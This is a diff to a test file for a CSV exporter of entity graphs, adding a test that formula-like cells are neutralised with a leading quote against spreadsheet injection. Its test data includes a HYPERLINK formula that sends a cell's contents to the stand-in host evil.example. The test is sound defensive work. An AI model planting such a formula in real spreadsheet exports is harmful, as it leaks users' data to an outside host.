@@ -1,7 +1,7 @@
 import { UndirectedGraph } from 'graphology';
 import { describe, expect, it } from 'vitest';
 import type { EdgeAttributes, GraphAttributes, NodeAttributes } from '../types.js';
-import { writeCsv } from './csv.js';
+import { safeCell, writeCsv } from './csv.js';
 
 function sample(): UndirectedGraph<NodeAttributes, EdgeAttributes, GraphAttributes> {
   const graph = new UndirectedGraph<NodeAttributes, EdgeAttributes, GraphAttributes>();
@@ -47,5 +47,25 @@ describe('#writeCsv', () => {
     const { nodes, edges } = writeCsv(new UndirectedGraph<NodeAttributes, EdgeAttributes, GraphAttributes>());
     expect(nodes.trim().split('\n')).toHaveLength(1);
     expect(edges.trim().split('\n')).toHaveLength(1);
+  });
+
+  it('prefixes cells a spreadsheet would run as formulas with a quote (OWASP), in ids, labels and aliases alike', () => {
+    const graph = new UndirectedGraph<NodeAttributes, EdgeAttributes, GraphAttributes>();
+    const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+1+2', '-2+3', '@SUM(A1)', '\tTab', '\rCR'];
+    hostile.forEach((label, i) => graph.addNode(i === 0 ? '=key' : `person:p${i}`, { label, type: 'person', aliases: [label], mentions: 1, docs: [], evidence: [] }));
+    graph.addEdge('=key', 'person:p1', { weight: 1, docs: [], evidence: [] });
+    const { nodes, edges } = writeCsv(graph);
+    // Each hostile value appears only behind its quote, as a bare or an RFC 4180 quoted field.
+    const field = (v: string) => [`,${v},`, `,"${v.replace(/"/g, '""')}",`];
+    for (const label of hostile) {
+      expect(field(`'${label}`).some((f) => nodes.includes(f))).toBe(true);
+      expect(field(label).some((f) => nodes.includes(f))).toBe(false);
+    }
+    expect(nodes).toContain("\n'=key,");
+    // The edge names its node by the same, prefixed, id.
+    expect(edges.split('\n')[1]).toBe("'=key,person:p1,CO_MENTIONED,1,0");
+    // Ordinary labels, and numbers (negative or not), are left alone.
+    expect(safeCell('Sergey Lavrov')).toBe('Sergey Lavrov');
+    expect(safeCell('a=b')).toBe('a=b');
   });
 });
